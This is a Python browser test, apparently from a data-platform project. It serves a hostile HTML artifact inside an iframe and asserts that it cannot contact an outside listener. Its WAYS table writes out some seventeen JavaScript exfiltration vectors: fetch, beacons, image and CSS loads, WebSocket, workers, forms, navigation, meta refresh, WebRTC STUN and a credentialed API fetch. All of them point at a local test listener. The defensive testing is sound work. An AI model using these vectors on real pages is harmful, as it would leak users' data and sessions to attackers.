"""A hostile artifact in a real browser tries every way out that a page has.

The page around it is the smallest one, with the real headers; the way out leads to a
listener of our own, which must hear nothing.
"""

import socket
import threading

import pytest
import uvicorn

from dataspace.core.database import connect
from dataspace.datasets import Reader, Storage
from dataspace.datasets.guards import Reading
from tests.chromium import PROGRAM, chromium
from tests.datasets.conftest import Bench
from tests.world import World

pytestmark = pytest.mark.skipif(not PROGRAM.exists(), reason="there is no Chromium")

# Each way is tried by itself, so that one that throws does not spare the others.
WAYS = {
    "fetch": "fetch('OUT/fetch')",
    "beacon": "navigator.sendBeacon('OUT/beacon', 'x')",
    "image": "new Image().src = 'OUT/image'",
    "style": ("document.body.style.backgroundImage = 'url(OUT/style)'"),
    "script": "document.body.append(Object.assign(document.createElement('script'),"
    " {src: 'OUT/script'}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {src: 'OUT/frame'}))",
    "socket": "new WebSocket('ws://HOST/socket')",
    "events": "new EventSource('OUT/events')",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('OUT/worker')\"])))",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'),"
    " {rel: 'prefetch', href: 'OUT/prefetch'}))",
    "form": "(() => { const f = document.createElement('form'); f.action = 'OUT/form';"
    " document.body.append(f); f.submit() })()",
    "popup": "window.open('OUT/popup')",
    "top": "top.location = 'OUT/top'",
    "itself": "setTimeout(() => { location = 'OUT/itself' }, 300)",
    "refresh": "document.head.append(Object.assign(document.createElement('meta'),"
    " {httpEquiv: 'refresh', content: '0;url=OUT/refresh'}))",
    "peer": "(() => { const c = new RTCPeerConnection({iceServers: [{urls:"
    " 'stun:HOST'}]}); c.createDataChannel('x');"
    " c.createOffer().then((o) => c.setLocalDescription(o)) })()",
    "api": "fetch('/api/me', {credentials: 'include'})",
}


class Outside:
    """Everything on one port that something could be said to, and what was said."""

    def __init__(self):
        self.heard = []
        self._stream = socket.create_server(("127.0.0.1", 0))
        self.port = self._stream.getsockname()[1]
        self._packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._packets.bind(("127.0.0.1", self.port))
        self._threads = [
            threading.Thread(target=self._hear_streams),
            threading.Thread(target=self._hear_packets),
        ]
        for thread in self._threads:
            thread.start()

    def close(self):
        self._stream.shutdown(socket.SHUT_RDWR)
        self._packets.sendto(b"", ("127.0.0.1", self.port))
        for thread in self._threads:
            thread.join()
        self._stream.close()
        self._packets.close()

    def _hear_streams(self):
        while True:
            try:
                connection, _ = self._stream.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                self.heard.append(connection.recv(200))

    def _hear_packets(self):
        while packet := self._packets.recv(2_000):
            self.heard.append(packet)


@pytest.fixture
def outside():
    outside = Outside()
    yield outside
    outside.close()


@pytest.fixture
def installation(server, tmp_path):
    """A world that answers a browser, under the name and the port by which it is asked."""
    listener = socket.create_server(("127.0.0.1", 0))
    origin = f"http://localhost:{listener.getsockname()[1]}"
    reading = Reading(
        storage=Storage(tmp_path), reader=Reader(), rows_per_day=1, origin=origin
    )
    page = tmp_path / "page"
    page.mkdir()
    with server.world(public_origin=origin, page=page, reading=reading) as world:
        config = uvicorn.Config(
            world.app, log_config=None, access_log=False, lifespan="off"
        )
        answering = uvicorn.Server(config)
        thread = threading.Thread(target=answering.run, args=([listener],))
        thread.start()
        engine = connect(server.url("worker", world.engine.url.database))
        yield origin, page, world, Bench(world, engine)
        engine.dispose()
        answering.should_exit = True
        thread.join()
    listener.close()


def artifact(outside):
    host = f"127.0.0.1:{outside.port}"
    tries = "\n".join(
        f"try {{ {way.replace('OUT', f'http://{host}').replace('HOST', host)} }}"
        f" catch (refused) {{ }}"
        for way in WAYS.values()
    )
    return f"<!doctype html><title>plot</title><body><script>{tries}</script>".encode()


@pytest.fixture
def browser():
    with chromium() as browser:
        yield browser.new_page()


def test_nothing_leaves_an_artifact(installation, outside, browser):
    origin, page, world, bench = installation
    snapshot = bench.publish(artifacts={"evil.html": artifact(outside)})
    address = f"/api{world.here}/datasets/{snapshot.key.transform_id}"
    address += f"/snapshots/{snapshot.id}/artifacts/evil.html"
    (page / "index.html").write_text("<title>ours</title>")
    sign_in(browser, world, origin)
    (page / "index.html").write_text(f'<title>ours</title><iframe src="{address}">')

    with browser.expect_response(
        lambda answer: answer.url.endswith("evil.html")
    ) as shown:
        browser.goto(origin)
    browser.wait_for_timeout(2_500)

    assert shown.value.status == 200
    assert outside.heard == []
    assert (browser.url, browser.title()) == (f"{origin}/", "ours")


def sign_in(browser, world: World, origin):
    link = {
        "token": world.link_for(world.founder).value,
        "password": "five words make one",
    }
    browser.goto(origin)
    status = browser.evaluate(
        "async (link) => (await fetch('/api/welcome', {method: 'POST', headers:"
        " {'content-type': 'application/json'}, body: JSON.stringify(link)})).status",
        link,
    )
    assert status == 200
